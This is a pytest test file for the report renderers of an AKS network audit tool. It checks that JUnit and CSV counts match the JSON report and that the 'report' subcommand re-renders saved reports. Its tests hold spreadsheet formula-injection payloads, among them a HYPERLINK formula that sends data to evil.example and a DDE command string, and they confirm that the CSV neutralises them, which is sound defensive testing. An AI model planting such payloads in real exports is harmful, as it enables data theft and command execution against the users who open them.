"""JUnit XML and CSV, rendered from report.json: counts that match the JSON, one CSV row per finding, no formula
injection; and `aks-netaudit report` re-rendering them from a saved report."""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import xml.etree.ElementTree as ET
from collections import Counter
from pathlib import Path

import pytest

from reports.csv_report import COLUMNS, neutralise, render_csv
from reports.junit import render_junit
from scanner import cli

JUNIT_TAG = {"fail": "failure", "error": "error", "not_applicable": "skipped", "suppressed": "skipped"}


@pytest.fixture(scope="module")
def demo(tmp_path_factory) -> Path:
    """A demo scan of every profile, written as json,sarif,junit,csv: its output folder."""
    out = tmp_path_factory.mktemp("demo")
    assert cli.main(["scan", "--demo", "--profile", "all", "--format", "json,sarif,junit,csv",
                     "--output-dir", str(out)]) == 0
    return out


@pytest.fixture(scope="module")
def demo_report(demo) -> dict:
    return json.loads((demo / "report.json").read_text(encoding="utf-8"))


def synthetic(demo_report: dict, findings: list[dict]) -> dict:
    """The demo report with its findings replaced: each given dict overrides a copy of a demo fail finding."""
    report = copy.deepcopy(demo_report)
    template = next(f for f in demo_report["findings"] if f["status"] == "fail")
    out = []
    for n, overrides in enumerate(findings):
        finding = copy.deepcopy(template)
        finding["resource_id"] = f"{template['resource_id']}-{n}"
        finding.update(overrides)
        finding["fingerprint"] = hashlib.sha256(
            f"{finding['rule_id']}|{finding['resource_id'].lower()}".encode()).hexdigest()
        out.append(finding)
    report["findings"] = out
    return report


def suite_counts(element: ET.Element) -> dict[str, int]:
    return {key: int(element.get(key)) for key in ("tests", "failures", "errors", "skipped")}


def expected_counts(findings: list[dict]) -> dict[str, int]:
    statuses = Counter(f["status"] for f in findings)
    return {"tests": len(findings), "failures": statuses["fail"], "errors": statuses["error"],
            "skipped": statuses["not_applicable"] + statuses["suppressed"]}


# -------------------------------------------------------------------------------------------------- JUnit


def test_demo_junit_counts_match_the_json(demo, demo_report):
    root = ET.parse(demo / "report.junit.xml").getroot()
    assert root.tag == "testsuites"
    findings = demo_report["findings"]
    assert suite_counts(root) == expected_counts(findings)
    assert expected_counts(findings)["errors"] > 0 and expected_counts(findings)["skipped"] > 0
    suites = root.findall("testsuite")
    assert [s.get("name") for s in suites] == [rule["id"] for rule in demo_report["rules"]]
    for suite in suites:
        mine = [f for f in findings if f["rule_id"] == suite.get("name")]
        assert suite_counts(suite) == expected_counts(mine), suite.get("name")
        assert len(suite.findall("testcase")) == len(mine)


def test_demo_junit_cases_are_the_findings(demo, demo_report):
    root = ET.parse(demo / "report.junit.xml").getroot()
    cases = {(c.get("classname"), c.get("name")): c for c in root.iter("testcase")}
    assert len(cases) == len(demo_report["findings"])
    for finding in demo_report["findings"]:
        case = cases[finding["rule_id"], f"{finding['cluster']} ({finding['resource_id']})"]
        children = [child.tag for child in case]
        if finding["status"] == "pass":
            assert children == []
            continue
        assert children == [JUNIT_TAG[finding["status"]]]
        outcome = case[0]
        if finding["status"] == "fail":
            assert outcome.get("type") == finding["severity"]
            assert outcome.get("message") == " ".join(finding["message"].split())
            assert "Evidence:" in outcome.text and finding["message"] in outcome.text
        elif finding["status"] == "error":
            assert outcome.get("message") == " ".join(finding["message"].split())
        else:
            assert outcome.get("message").startswith("not applicable")


def test_every_suite_names_the_scan(demo, demo_report):
    root = ET.parse(demo / "report.junit.xml").getroot()
    for suite in root.findall("testsuite"):
        properties = {p.get("name"): p.get("value") for p in suite.find("properties")}
        assert properties["scan.id"] == demo_report["scan"]["id"]
        assert list(suite)[0].tag == "properties"  # before the test cases, as the JUnit schema has it


def test_suppressed_findings_are_skipped_with_the_reason(demo_report):
    contract = synthetic(demo_report, [
        {"status": "suppressed", "suppression": {"reason": "Accepted until Q3", "owner": "net-team",
                                                 "expires": "2027-07-01", "entry": 1, "status": "fail"}},
        {"status": "not_applicable", "evidence": {"reason": "AKS-managed VNet"}},
        {"status": "fail"},
    ])
    root = ET.fromstring(render_junit(contract))
    assert suite_counts(root) == {"tests": 3, "failures": 1, "errors": 0, "skipped": 2}
    skipped = [s.get("message") for s in root.iter("skipped")]
    assert skipped == ["suppressed: Accepted until Q3 (owner net-team; expires 2027-07-01)",
                       "not applicable: AKS-managed VNet"]


def test_junit_survives_hostile_text(demo_report):
    contract = synthetic(demo_report, [{
        "cluster": "aks</testcase><x a=\"1\">&amp;\x00\x1b\ud800",
        "message": "]]> <![CDATA[ & \"quoted\" 'single'\nsecond line\x07",
        "evidence": {"tag": "<script>alert(1)</script>\x0c"},
    }])
    text = render_junit(contract)
    text.encode("utf-8")  # writable: no lone surrogate left
    case = ET.fromstring(text).find("testsuite/testcase")
    assert case.get("name").startswith("aks</testcase><x a=\"1\">&amp;\ufffd\ufffd\ufffd (")
    failure = case.find("failure")
    assert failure.get("message") == "]]> <![CDATA[ & \"quoted\" 'single' second line\ufffd"
    assert "<script>alert(1)</script>" in failure.text


def test_a_rule_without_findings_is_an_empty_suite_and_a_finding_without_its_rule_gets_one(demo_report):
    contract = synthetic(demo_report, [{"rule_id": "ZZZ-999"}])
    contract["rules"] = contract["rules"][:1]
    root = ET.fromstring(render_junit(contract))
    suites = root.findall("testsuite")
    assert [s.get("name") for s in suites] == [contract["rules"][0]["id"], "ZZZ-999"]
    assert suite_counts(suites[0]) == {"tests": 0, "failures": 0, "errors": 0, "skipped": 0}
    assert suite_counts(suites[1])["failures"] == 1


# ---------------------------------------------------------------------------------------------------- CSV


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_text(path: Path) -> str:
    """The file's text with its line endings as written (a CSV's \r\n and in-cell newlines kept apart)."""
    with open(path, encoding="utf-8", newline="") as handle:
        return handle.read()


def test_demo_csv_has_one_row_per_finding_with_the_scan_id(demo, demo_report):
    text = read_text(demo / "report.csv")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    assert tuple(reader.fieldnames) == COLUMNS
    findings = demo_report["findings"]
    assert len(rows) == len(findings)
    assert {row["scan_id"] for row in rows} == {demo_report["scan"]["id"]}
    for row, finding in zip(rows, findings, strict=True):
        assert row["rule_id"] == finding["rule_id"]
        assert row["fingerprint"] == finding["fingerprint"]
        assert row["status"] == finding["status"]
        assert row["resource_id"] == neutralise(finding["resource_id"])
        assert row["cluster"] == finding["cluster"]
        assert row["subscription_id"] == finding["subscription_id"]
        assert row["message"] == neutralise(finding["message"])
        assert row["remediation"] == neutralise(finding["remediation"])
        assert row["suppressed_reason"] == ""
    assert Counter(row["status"] for row in rows) == Counter(f["status"] for f in findings)
    assert any("\n" in row["remediation"] for row in rows)  # multi-line remediation kept inside quotes


PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_formula_payloads_in_every_column(demo_report, payload):
    contract = synthetic(demo_report, [{
        "message": payload, "cluster": payload, "resource_name": payload, "remediation": payload,
        "resource_id": payload, "category": payload, "subscription_id": payload,
        "status": "suppressed", "suppression": {"reason": payload, "status": "fail"},
    }])
    (row,) = read_csv(render_csv(contract))
    for column in ("message", "cluster", "remediation", "resource_id", "category", "subscription_id",
                   "suppressed_reason"):
        assert row[column] == "'" + payload, column
        assert row[column][0] not in "=+-@\t\r"


def test_csv_leaves_harmless_cells_and_keeps_newlines_inside_quotes(demo_report):
    contract = synthetic(demo_report, [
        {"message": "line one\nline two, with \"quotes\"\r\nline three", "cluster": "aks-1"},
        {"message": "a = b and 1+1", "cluster": "x-=1"},
    ])
    text = render_csv(contract)
    first, second = read_csv(text)
    assert first["message"] == "line one\nline two, with \"quotes\"\r\nline three"
    assert second["message"] == "a = b and 1+1" and second["cluster"] == "x-=1"
    assert text.count("\r\n") >= 3 and text.splitlines()[0].split(",") == list(COLUMNS)


def test_csv_survives_a_lone_surrogate(demo_report):
    contract = synthetic(demo_report, [{"cluster": "aks\ud800"}])
    text = render_csv(contract)
    text.encode("utf-8")
    assert read_csv(text)[0]["cluster"] == "aks\ufffd"


# -------------------------------------------------------------------------------------- aks-netaudit report


def test_report_command_renders_sarif_junit_csv_from_a_saved_report(demo, demo_report, tmp_path, capsys):
    out = tmp_path / "rendered"
    code = cli.main(["report", str(demo / "report.json"), "--format", "sarif,junit,csv", "--output-dir", str(out)])
    assert code == 0, capsys.readouterr().err
    printed = capsys.readouterr().out
    for name in ("report.json", "report.sarif", "report.junit.xml", "report.csv"):
        assert (out / name).is_file() and name in printed
    sarif = json.loads((out / "report.sarif").read_text(encoding="utf-8"))
    assert sarif["runs"][0]["automationDetails"]["guid"] == demo_report["scan"]["id"]
    # the same contract renders the same files as the scan did
    assert (out / "report.sarif").read_bytes() == (demo / "report.sarif").read_bytes()
    assert (out / "report.junit.xml").read_bytes() == (demo / "report.junit.xml").read_bytes()
    assert (out / "report.csv").read_bytes() == (demo / "report.csv").read_bytes()
    assert suite_counts(ET.parse(out / "report.junit.xml").getroot()) == expected_counts(demo_report["findings"])
    assert len(read_csv(read_text(out / "report.csv"))) == len(demo_report["findings"])


@pytest.mark.parametrize("content", ['{"schema_version": "1", "findings": []}', "not json at all", "[1, 2]"])
def test_report_command_refuses_a_file_that_is_not_a_report(tmp_path, capsys, content):
    bogus = tmp_path / "not-a-report.json"
    bogus.write_text(content, encoding="utf-8")
    out = tmp_path / "rendered"
    code = cli.main(["report", str(bogus), "--format", "sarif,junit,csv", "--output-dir", str(out)])
    err = capsys.readouterr().err
    assert code == 2
    assert str(bogus) in err and err.count("\n") == 1
    assert not out.exists()
